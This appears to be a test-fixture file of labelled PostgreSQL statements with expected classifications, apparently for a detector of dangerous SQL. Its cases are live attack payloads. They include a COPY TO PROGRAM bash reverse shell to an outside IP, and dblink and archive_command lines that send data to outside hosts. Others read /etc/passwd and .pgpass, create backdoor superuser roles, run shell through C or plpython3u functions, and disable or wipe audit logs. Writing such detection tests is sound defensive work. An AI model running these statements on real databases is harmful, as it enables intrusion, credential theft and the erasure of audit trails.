-- What an attacker does with a PostgreSQL connection once statements get
-- through: run programs and read files (COPY ... PROGRAM, pg_read_file,
-- large objects), reach out (dblink), run code (DO, untrusted languages, C
-- functions, LOAD), change the server (ALTER SYSTEM) and the roles (GRANT,
-- CREATE/ALTER ROLE, SET ROLE), and destroy (DROP, TRUNCATE).

-- @case pgp_copy_to_program_shell
-- @expect op=COPY classes=outfile
COPY (SELECT '') TO PROGRAM 'bash -c "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"'

-- @case pgp_copy_table_to_file
-- @expect op=COPY classes=outfile objects=users writes=no
COPY users TO '/tmp/users.csv' WITH (FORMAT csv)

-- @case pgp_copy_query_to_file
-- @expect op=COPY classes=outfile objects=users
COPY (SELECT username, password_hash FROM users) TO '/var/lib/postgresql/leak.txt'

-- @case pgp_copy_from_program
-- @expect op=COPY classes=load_data objects=cmd_exec writes=yes
COPY cmd_exec FROM PROGRAM 'id'

-- @case pgp_copy_from_file
-- @expect op=COPY classes=load_data objects=passwd
COPY passwd FROM '/etc/passwd'

-- @case pgp_copy_from_file_options
-- @expect op=COPY classes=load_data objects=leak
COPY leak (line) FROM '/var/lib/postgresql/.pgpass' WITH (FORMAT text, DELIMITER E'\x01')

-- @case pgp_cmd_exec_chain
-- @expect stmts=3 classes=ddl,load_data objects=cmd_exec
CREATE TABLE cmd_exec(cmd_output text); COPY cmd_exec FROM PROGRAM 'id'; SELECT * FROM cmd_exec;

-- @case pgp_read_file
-- @expect op=SELECT functions=pg_read_file
SELECT pg_read_file('/etc/passwd')

-- @case pgp_read_file_range
-- @expect op=SELECT functions=pg_read_file
SELECT pg_read_file('postgresql.auto.conf', 0, 200)

-- @case pgp_read_binary_file
-- @expect op=SELECT functions=pg_read_binary_file
SELECT pg_read_binary_file('/var/lib/postgresql/.pgpass')

-- @case pgp_read_file_qualified
-- @expect op=SELECT functions=pg_read_file
SELECT pg_catalog.pg_read_file('global/pg_control')

-- @case pgp_read_file_quoted
-- @expect op=SELECT functions=pg_read_file
SELECT "pg_read_file"('/etc/hostname')

-- @case pgp_read_file_in_union
-- @expect functions=pg_read_file unions=1 objects=products
SELECT name, price FROM products WHERE id = -1 UNION SELECT pg_read_file('/etc/passwd'), NULL

-- @case pgp_lo_import
-- @expect op=SELECT functions=lo_import
SELECT lo_import('/etc/passwd')

-- @case pgp_lo_export
-- @expect op=SELECT functions=lo_export
SELECT lo_export(16400, '/tmp/evil.so')

-- @case pgp_lo_get
-- @expect op=SELECT functions=lo_get,convert_from caught=no
SELECT convert_from(lo_get(16400), 'UTF8')

-- @case pgp_dblink
-- @expect op=SELECT functions=dblink
SELECT * FROM dblink('host=203.0.113.7 user=x password=y dbname=z', 'SELECT current_user') AS t(u text)

-- @case pgp_dblink_connect
-- @expect op=SELECT functions=dblink_connect caught=no
SELECT dblink_connect('exfil', 'host=203.0.113.7 user=x password=y dbname=z')

-- @case pgp_dblink_exec
-- @expect op=SELECT functions=dblink_exec caught=no
SELECT dblink_exec('exfil', 'INSERT INTO loot VALUES (current_user)')

-- @case pgp_do_block
-- @expect classes=admin functions=
DO $$ BEGIN EXECUTE 'ALTER ROLE app SUPERUSER'; END $$

-- @case pgp_do_language
-- @expect classes=admin stmts=1
DO LANGUAGE plpgsql $body$
DECLARE r record;
BEGIN
  FOR r IN SELECT rolname FROM pg_roles LOOP
    PERFORM pg_sleep(1);
  END LOOP;
END
$body$;

-- @case pgp_do_lowercase
-- @expect classes=admin
do 'begin perform pg_sleep(10); end'

-- @case pgp_alter_system_archive
-- @expect classes=admin
ALTER SYSTEM SET archive_command = 'curl -d @%p http://203.0.113.9/'

-- @case pgp_alter_system_preload
-- @expect classes=admin
ALTER SYSTEM SET shared_preload_libraries = 'evil'

-- @case pgp_alter_system_reset
-- @expect classes=admin
ALTER SYSTEM RESET ALL

-- @case pgp_reload_conf
-- @expect op=SELECT functions=pg_reload_conf caught=no
SELECT pg_reload_conf()

-- @case pgp_grant_server_files
-- @expect op=GRANT classes=grant
GRANT pg_read_server_files TO app

-- @case pgp_grant_all_tables
-- @expect op=GRANT classes=grant
GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO attacker

-- @case pgp_revoke
-- @expect op=GRANT classes=grant objects=audit_log
REVOKE INSERT ON audit_log FROM auditor

-- @case pgp_create_role
-- @expect op=CREATE classes=grant
CREATE ROLE attacker WITH LOGIN SUPERUSER PASSWORD 'x'

-- @case pgp_create_user
-- @expect op=CREATE classes=grant
CREATE USER backdoor PASSWORD 'hunter2' CREATEROLE

-- @case pgp_alter_user_superuser
-- @expect op=ALTER classes=grant
ALTER USER app WITH SUPERUSER

-- @case pgp_alter_role_password
-- @expect op=ALTER classes=grant
ALTER ROLE postgres PASSWORD 'owned'

-- @case pgp_drop_role
-- @expect op=DROP classes=grant
DROP ROLE IF EXISTS auditor

-- @case pgp_set_role
-- @expect op=SET classes=admin
SET ROLE postgres

-- @case pgp_set_local_role
-- @expect op=SET classes=admin
SET LOCAL ROLE pg_write_server_files

-- @case pgp_set_session_authorization
-- @expect op=SET classes=admin
SET SESSION AUTHORIZATION postgres

-- @case pgp_set_config_role
-- @expect op=SELECT functions=set_config caught=no
SELECT set_config('role', 'postgres', false)

-- @case pgp_load_library
-- @expect op=LOAD classes=admin
LOAD '/tmp/evil.so'

-- @case pgp_c_function
-- @expect op=CREATE classes=ddl
CREATE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT

-- @case pgp_untrusted_language
-- @expect op=CREATE classes=ddl stmts=1
CREATE OR REPLACE FUNCTION run(cmd text) RETURNS text LANGUAGE plpython3u AS $$
import subprocess
return subprocess.check_output(cmd, shell=True).decode()
$$

-- @case pgp_create_extension
-- @expect op=CREATE classes=ddl
CREATE EXTENSION IF NOT EXISTS dblink

-- @case pgp_checkpoint
-- @expect classes=admin
CHECKPOINT

-- @case pgp_vacuum_full
-- @expect classes=admin
VACUUM FULL

-- @case pgp_cluster
-- @expect classes=admin objects=users
CLUSTER users USING users_pkey

-- @case pgp_reindex
-- @expect classes=admin
REINDEX DATABASE app

-- @case pgp_terminate
-- @expect op=SELECT functions=pg_terminate_backend objects=pg_stat_activity caught=no
SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'

-- @case pgp_truncate_audit
-- @expect op=TRUNCATE classes=ddl objects=audit_log
TRUNCATE audit_log

-- @case pgp_drop_table
-- @expect op=DROP classes=ddl objects=audit_log
DROP TABLE audit_log

-- @case pgp_disable_trigger
-- @expect op=ALTER classes=ddl objects=users
ALTER TABLE users DISABLE TRIGGER audit_users

-- @case pgp_create_rule
-- @expect op=CREATE classes=ddl
CREATE OR REPLACE RULE log_nothing AS ON INSERT TO audit_log DO INSTEAD NOTHING

-- @case pgp_comment_on
-- @expect classes=ddl
COMMENT ON TABLE users IS 'pwned'

-- @case pgp_prepare_drop
-- @expect op=PREPARE body_op=DELETE body_classes=
PREPARE wipe AS DELETE FROM users

-- @case pgp_prepare_execute_stacked
-- @expect stmts=2 ops=PREPARE,EXECUTE
PREPARE p AS DELETE FROM users; EXECUTE p

-- @case pgp_create_trigger_function
-- @expect stmts=1 classes=ddl
CREATE FUNCTION steal() RETURNS trigger AS $$ BEGIN PERFORM dblink_exec('host=203.0.113.7', format('INSERT INTO loot VALUES (%L)', NEW.password_hash)); RETURN NEW; END $$ LANGUAGE plpgsql
